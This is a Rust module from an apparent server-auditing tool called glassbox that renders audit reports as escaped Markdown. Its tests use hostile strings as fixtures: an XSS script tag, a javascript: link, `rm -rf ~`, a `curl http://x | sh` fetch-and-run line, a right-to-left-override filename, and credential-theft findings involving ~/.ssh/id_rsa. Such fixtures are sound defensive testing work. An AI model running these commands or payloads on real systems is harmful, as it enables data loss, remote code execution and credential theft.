//! The Markdown renderer (GitHub-flavored: tables).
//!
//! Every string from the server goes through [`md`] after it was made printable (control and
//! invisible format characters escaped, see [`crate::escape`]) and cut: Markdown's and HTML's
//! special characters are backslash-escaped, so a tool name cannot open a link, an image, an
//! HTML tag, a code span or emphasis, nor split a table cell. Server text never starts a line:
//! each table cell and list item begins with something of ours, so it cannot start a heading,
//! a list or a quote either.
//!
//! The sections are [`crate::sections`]'s, built once for every format: this module renders
//! each kind of body and cell one way (glassbox's own words as they are, everything else
//! through [`md`]), and writes the header.

use crate::escape;
use crate::sections::{self, Body, Cell, Check, Items, Section};
use crate::tables::{self, claim_status, NAME, WIDE};
use glassbox_model::{AuditReport, Evidence, Outcome};
use std::fmt::Write as _;

/// Printable text made inert in Markdown: `\`, `` ` ``, `*`, `_`, `[`, `]`, `<`, `>`, `|`, `#`,
/// `~`, `&`, `@`, `:` and `!` are backslash-escaped (CommonMark lets any ASCII punctuation be
/// escaped so), and so is the `.` of `www.` (GitHub's bare-URL autolinks; `:` covers
/// `scheme://`). Newlines cannot occur: the text is printable already.
pub(crate) fn md(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + s.len() / 8);
    let mut prev: [char; 3] = ['\0'; 3];
    for c in s.chars() {
        let www = c == '.' && prev.iter().all(|p| p.eq_ignore_ascii_case(&'w'));
        if matches!(
            c,
            '\\' | '`'
                | '*'
                | '_'
                | '['
                | ']'
                | '<'
                | '>'
                | '|'
                | '#'
                | '~'
                | '&'
                | '@'
                | ':'
                | '!'
        ) || www
        {
            out.push('\\');
        }
        // Belt and braces: printable text has no line breaks; never let one through.
        match c {
            '\n' => out.push_str("\\\\n"),
            '\r' => out.push_str("\\\\r"),
            _ => out.push(c),
        }
        prev = [prev[1], prev[2], c];
    }
    out
}

/// A server string: printable, cut at `max` characters, then escaped for Markdown.
fn text(s: &str, max: usize) -> String {
    md(&escape::truncate(&escape::text(s), max))
}

fn table<'a>(out: &mut String, titles: impl IntoIterator<Item = &'a str>) {
    let titles: Vec<&str> = titles.into_iter().collect();
    let _ = writeln!(out, "| {} |", titles.join(" | "));
    let _ = writeln!(out, "|{}", "---|".repeat(titles.len()));
}

fn row(out: &mut String, cells: &[String]) {
    let cells: Vec<&str> = cells
        .iter()
        .map(|c| if c.is_empty() { " " } else { c.as_str() })
        .collect();
    let _ = writeln!(out, "| {} |", cells.join(" | "));
}

/// "… and N more (see FILE)." after a capped list (after a blank line: a line right under a
/// table would be read as one more row).
fn more(out: &mut String, shown: usize, total: usize, see: &str) {
    if total > shown {
        let _ = writeln!(out, "\n… and {} more (see {see}).", total - shown);
    }
}

fn heading(out: &mut String, title: &str) {
    let _ = writeln!(out, "\n## {title}\n");
}

pub(crate) fn render(ev: &Evidence, report: &AuditReport) -> String {
    let mut out = String::new();
    header(&mut out, ev, report);
    for sec in sections::all(ev, report) {
        section(&mut out, &sec);
    }
    out
}

fn header(out: &mut String, ev: &Evidence, report: &AuditReport) {
    let _ = writeln!(out, "# glassbox audit: {}\n", md(&tables::command(ev)));
    let _ = writeln!(out, "**Verdict: {}**", tables::verdict(report.verdict));
    if let Some(reason) = &report.inconclusive_reason {
        let _ = writeln!(out, "\nReason: {}", text(reason, usize::MAX));
    }
    out.push('\n');
    let _ = writeln!(out, "- run: {}", text(&report.run_id, WIDE));
    let _ = writeln!(out, "- evidence: {}", text(&report.evidence_dir, WIDE));
    let _ = writeln!(out, "- session: {}", md(&tables::session(ev)));
    if let Some(exit) = tables::server_exit(ev) {
        let _ = writeln!(out, "- server: {exit}");
    }
    let _ = writeln!(out, "- recorded: {}", tables::recorded(ev));
    if let Some(text) = tables::network(ev) {
        let _ = writeln!(out, "- network: {}", md(&text));
    }
    let _ = writeln!(out, "- glassbox: {}", text(&report.glassbox_version, NAME));
}

/// The outcome of a check in words, its severity when it flags.
fn outcome(c: &Check) -> String {
    match c.outcome {
        Outcome::Flag => format!("**flag** ({})", tables::severity(c.severity)),
        Outcome::Pass => "pass".into(),
        o => format!("{} ({})", claim_status(o), tables::outcome(o)),
    }
}

/// A section ([`sections::Section`]): its heading, then its body.
fn section(out: &mut String, sec: &Section) {
    heading(out, &sec.title);
    body(out, &sec.body);
}

fn body(out: &mut String, b: &Body) {
    match b {
        Body::Note(why) => {
            let _ = writeln!(out, "{why}");
        }
        Body::Text(text) => {
            let _ = writeln!(out, "{}", md(text));
        }
        Body::Table(t) => {
            table(out, t.columns.iter().map(|c| c.title));
            for r in &t.rows {
                let cells: Vec<String> = r.iter().map(cell).collect();
                row(out, &cells);
            }
            more(out, t.rows.len(), t.total, t.see);
        }
        Body::Checks(checks) => {
            table(out, ["check", "version", "claim", "outcome", "reason"]);
            for c in checks {
                row(
                    out,
                    &[
                        md(&c.id),
                        c.version.to_string(),
                        md(&c.claim),
                        outcome(c),
                        md(c.reason.as_deref().unwrap_or_default()),
                    ],
                );
            }
        }
        Body::Findings(checks) => {
            for c in checks {
                let _ = writeln!(
                    out,
                    "### {} v{} ({})\n",
                    md(&c.id),
                    c.version,
                    tables::outcome(c.outcome)
                );
                items(out, &c.findings);
                if c.notes.total > 0 {
                    let _ = writeln!(out, "\nNotes:\n");
                    items(out, &c.notes);
                }
                out.push('\n');
            }
        }
        Body::Parts(parts) => {
            for (n, p) in parts.iter().enumerate() {
                if n > 0 {
                    out.push('\n');
                }
                body(out, p);
            }
        }
    }
}

fn cell(c: &Cell) -> String {
    match c {
        Cell::Mono(t) | Cell::Text(t) => md(t),
        Cell::Own(t) => t.clone(),
        Cell::Num(n) => n.to_string(),
        Cell::Ms(ns) => tables::ms(*ns),
        Cell::Status { good: true, text } => text.to_string(),
        Cell::Status { good: false, text } => format!("**{text}**"),
    }
}

/// A list of findings or notes, then how many more there are.
fn items(out: &mut String, list: &Items) {
    for i in &list.shown {
        let mut line = format!("- {} ", list.mark.glyph());
        if i.withheld {
            line.push_str("**withheld until reviewed**: ");
        }
        line.push_str(&md(&i.summary));
        // Ids are digits; a phase is the server's.
        let refs: Vec<String> = i.refs().iter().map(|r| md(r)).collect();
        if !refs.is_empty() {
            let _ = write!(line, " — {}", refs.join("; "));
        }
        let _ = writeln!(out, "{line}");
    }
    more(out, list.shown.len(), list.total, list.see);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fixture::{self, HOSTILE};

    /// How many times `c` occurs in `s` not escaped (not after an odd run of backslashes).
    fn unescaped(s: &str, c: char) -> usize {
        let mut n = 0;
        let mut backslashes = 0;
        for ch in s.chars() {
            if ch == c && backslashes % 2 == 0 {
                n += 1;
            }
            backslashes = if ch == '\\' { backslashes + 1 } else { 0 };
        }
        n
    }

    /// The tables of a document: runs of lines starting with `|`.
    fn tables(out: &str) -> Vec<Vec<&str>> {
        let mut all: Vec<Vec<&str>> = Vec::new();
        let mut current: Vec<&str> = Vec::new();
        for line in out.lines() {
            if line.starts_with('|') {
                current.push(line);
            } else if !current.is_empty() {
                all.push(std::mem::take(&mut current));
            }
        }
        if !current.is_empty() {
            all.push(current);
        }
        all
    }

    #[test]
    fn md_escapes_markup_and_leaves_words() {
        assert_eq!(md("a|b"), "a\\|b");
        assert_eq!(
            md("[x](javascript:alert(1))"),
            "\\[x\\](javascript\\:alert(1))"
        );
        assert_eq!(md("<b>`c`</b>"), "\\<b\\>\\`c\\`\\</b\\>");
        assert_eq!(
            md("*a* _b_ ~c~ #d &e; \\"),
            "\\*a\\* \\_b\\_ \\~c\\~ \\#d \\&e; \\\\"
        );
        assert_eq!(md("see www.x.org"), "see www\\.x.org");
        assert_eq!(md("plain words, ünïcode 1.2"), "plain words, ünïcode 1.2");
        // Printable first: the escapes of control characters are escaped in turn.
        assert_eq!(
            text("a\x1b\n# h\u{202e}", 100),
            "a\\\\u{1b}\\\\n\\# h\\\\u{202e}"
        );
    }

    #[test]
    fn a_normal_report_has_every_section() {
        let (ev, rep) = fixture::normal();
        let out = render(&ev, &rep);
        let mut at = 0;
        for s in [
            "# glassbox audit: node server.js\n",
            "**Verdict: FLAGGED**",
            "- run: run-42",
            "\n## Checks\n",
            "| check | version | claim | outcome | reason |",
            "\n## Findings\n",
            "\n### credential-probe v1 (flag)\n",
            "\n### canary-exfiltration v1 (flag)\n",
            "\n## Files touched under home\n",
            "\n## Processes\n",
            "\n## Connection attempts\n",
            "\n## Network flows\n",
            "\n## Tools (2)\n",
            "\n## Surface exercised\n",
            "| kind | name | result | note |",
            "| phase | arguments | outcome | note |",
            "\nLeft out\\: the calls' budget ran out\\: 1 prompt got fewer gets than its plan\n",
            "\n## Timeline\n",
        ] {
            let found = out[at..]
                .find(s)
                .unwrap_or_else(|| panic!("{s:?} missing (in order) in\n{out}"));
            at += found + s.len();
        }
        for line in [
            "| credential-probe | 1 | the claim of credential-probe | **flag** (high) |   |",
            "| process-spawn | 1 | the claim of process-spawn | pass |   |",
            "| image-swap | 1 | the claim of image-swap | no claim (unverified) | no positive control passed in this build |",
            "| honeytoken-ground-truth | 1 | the claim of honeytoken-ground-truth | no claim (not-observed) | fanotify is not available |",
            "- ✗ read + stat of \\~/.ssh/id\\_rsa (planted secret) during call\\:get\\_weather — events 3, 4, 5; phase call\\:get\\_weather",
            "- ✗ **withheld until reviewed**: sent \\~/.ssh/id\\_rsa to api.example.com — event 9; flows 1, 2; phase call\\:get\\_weather",
            "| \\~/.ssh/id\\_rsa | read+stat | call\\:get\\_weather, shutdown | 3 |",
            "| \\~/.bashrc | write | startup | 1 |",
            "| 9 | 1 | sh -c 'curl http\\://x \\| sh' | call\\:run | 1 |",
            "| 198.18.0.7\\:443 | connect | call\\:get\\_weather | 1 |",
            "| capture | 0 | 2 | verified | 0 |",
            "| capture | tcp | 198.18.0.7\\:443 = api.example.com SNI api.example.com | 2 | 6 | 1034 |   | 1, 2 |",
            "| get\\_weather | yes | ok | Get the weather for a city. |",
            "| run | no | not called | Runs a command. |",
            "| call\\:get\\_weather | 205.0 | 1340.2 | 1135.2 |",
            "| resource | mem\\://notes | ok |   |",
            "| resource template | file\\:///{path} | 2 reads\\: ok 1, rpc error 1 | 1 completion; first error\\: no such file |",
            "| read\\:file\\:///home/user/.aws/credentials | path\\: a planted credential | rpc error | no such file |",
        ] {
            assert!(out.lines().any(|l| l == line), "{line:?} missing in\n{out}");
        }
        assert!(!out.contains("/usr/lib/node"), "only files under home");
    }

    #[test]
    fn hostile_strings_stay_text() {
        let (ev, rep) = fixture::hostile();
        let out = render(&ev, &rep);
        println!("{out}");
        // No HTML, link, image, code span: every such character is escaped.
        for c in ['<', '>', '[', ']', '`'] {
            assert_eq!(unescaped(&out, c), 0, "unescaped {c:?} in\n{out}");
        }
        assert!(out.contains("\\<script\\>alert(1)\\</script\\>"), "{out}");
        assert!(out.contains("\\[x\\](javascript\\:alert(1))"), "{out}");
        assert!(
            out.contains("a\\|b \\`rm -rf \\~\\` \\*bold\\* \\_u\\_"),
            "{out}"
        );
        // No raw control or format characters; no line the server started.
        for c in out.chars() {
            assert!(c == '\n' || !c.is_control(), "{c:?} in\n{out}");
        }
        assert!(!out.contains('\u{202e}'), "{out}");
        assert!(out.contains("\\\\u{202e}gpj.exe"), "{out}");
        for line in out.lines() {
            if line.starts_with('#') {
                assert!(
                    line.starts_with("# glassbox audit: ")
                        || line.starts_with("## ")
                        || line.starts_with("### "),
                    "{line}"
                );
            }
        }
        assert_eq!(out.matches("\n# ").count(), 0, "one title, first line");
        // Every row of every table has as many cells as its header.
        let tables = tables(&out);
        assert_eq!(tables.len(), 11, "{out}");
        for t in &tables {
            let cells = unescaped(t[0], '|');
            assert!(cells >= 3, "{}", t[0]);
            for row in t {
                assert_eq!(unescaped(row, '|'), cells, "{row}\nin\n{out}");
            }
        }
        // The hostile strings reached every table.
        let tools = tables
            .iter()
            .find(|t| t[0].starts_with("| name |"))
            .unwrap();
        assert_eq!(tools.len(), 2 + 1 + 2 * HOSTILE.len());
        for t in tables
            .iter()
            .filter(|t| !t[0].starts_with("| run | packets |"))
        {
            assert!(
                t.iter().any(|r| r.contains("\\<script\\>")),
                "no hostile row in {t:?}"
            );
        }
    }

    #[test]
    fn long_lists_are_capped() {
        let (ev, rep) = fixture::long();
        let out = render(&ev, &rep);
        for s in [
            "\n\n… and 7 more (see events.jsonl).\n",
            "\n\n… and 3 more (see events.jsonl).\n",
            "\n\n… and 1 more (see events.jsonl).\n",
            "\n\n… and 4 more (see network.jsonl).\n",
            "\n\n… and 2 more (see report.json).\n",
            "\n\n… and 4 more (see report.json).\n",
            "\n\n… and 5 more (see manifest.json).\n",
            "\n\n… and 3 more (see report.json).\n",
            "\nLeft out\\: cut 9\n\n… and 2 more left out (see report.json).\n",
            "events 1, 2, 3, 4, 5, 6, 7, 8, +12",
        ] {
            assert!(out.contains(s), "{s:?} missing in\n{out}");
        }
        use crate::tables::{FILES_CAP, TOOLS_CAP};
        assert!(out.contains(&format!("| \\~/f{} | read |", FILES_CAP - 1)));
        assert!(!out.contains(&format!("| \\~/f{FILES_CAP} |")));
        assert!(out.contains(&format!("| t{} | yes |", TOOLS_CAP - 1)));
        assert!(!out.contains(&format!("| t{TOOLS_CAP} |")));
    }
}
